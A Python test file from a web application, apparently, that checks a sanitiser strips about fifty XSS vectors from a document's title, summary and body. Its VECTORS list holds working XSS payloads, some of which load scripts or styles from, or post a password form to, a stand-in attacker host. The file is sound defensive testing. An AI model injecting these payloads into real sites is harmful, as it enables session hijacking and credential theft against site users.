"""Known XSS vectors in the body, title and summary come out harmless, on the stored
document and on the page that shows it."""

from __future__ import annotations

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from rcm_exchange.sanitize import ALLOWED_TAGS
from rcm_exchange.schemas import load
from rcm_exchange.schemas.documents import DocumentSchema
from rcm_exchange.services import documents
from tests.builders import make_user

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<img src=`javascript:alert(1)`>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="jav&#x09;ascript:alert(1)">click</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="https://example.org" onclick="alert(1)">x</a>',
    '<a href="https://example.org" style="position:fixed;top:0">x</a>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div style="width:expression(alert(1))">x</div>',
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example"><input name=password></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    "<td onmouseover=alert(1)>x</td>",
    '<p onmouseover="alert(1)">hover</p>',
    "<h2 id=x tabindex=1 onfocus=alert(1)>x</h2>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<![CDATA[<script>alert(1)</script>]]>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<isindex action=javascript:alert(1) type=image>",
    "<object><param name=src value=javascript:alert(1)></object>",
    "<x onclick=alert(1)>custom element</x>",
    '<a href="/relative" target=_blank>relative</a>',
]

SAFE_SCHEMES = {"http", "https", "mailto"}


class Inspector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        for name, value in attrs:
            if name.startswith("on") or name in ("style", "srcdoc", "formaction"):
                self.problems.append(f"{tag}[{name}]")
            if name in ("href", "src", "action", "data") and value:
                scheme = urlsplit(value.strip()).scheme.lower()
                if scheme and scheme not in SAFE_SCHEMES:
                    self.problems.append(f"{tag}[{name}={value}]")
        if tag in (
            "script",
            "style",
            "iframe",
            "object",
            "embed",
            "svg",
            "math",
            "base",
            "meta",
            "link",
            "img",
            "video",
            "audio",
            "template",
            "x",
            "details",
            "marquee",
        ):
            self.problems.append(tag)


def inspect(html: str) -> Inspector:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector


def body_of(page: str) -> str:
    return page.split('<article class="document">', 1)[1].split("</article>", 1)[0]


@pytest.mark.parametrize("vector", VECTORS)
def test_an_xss_vector_comes_out_harmless(app, login_as, vector):
    assert len(VECTORS) >= 40
    author = make_user(org="MX")
    data = load(
        DocumentSchema(),
        {
            "title": f"Title {vector}",
            "summary": f"Summary {vector}",
            "body_html": f"<p>Before</p>{vector}<p>After</p>",
            "results_html": vector,
            "doc_type": "practice_report",
            "language": "en",
        },
    )
    document = documents.create_draft(author, data)

    stored = inspect(document.body_html)
    assert set(stored.tags) <= ALLOWED_TAGS
    assert stored.problems == []
    assert inspect(document.results_html).problems == []

    page = login_as(author).get(f"/documents/{document.id}").get_data(as_text=True)
    article = body_of(page)
    assert inspect(article).problems == []
    # The title and summary are text: shown escaped, never as markup.
    if "<" in vector:
        assert vector not in article
    assert "<script" not in page.lower()
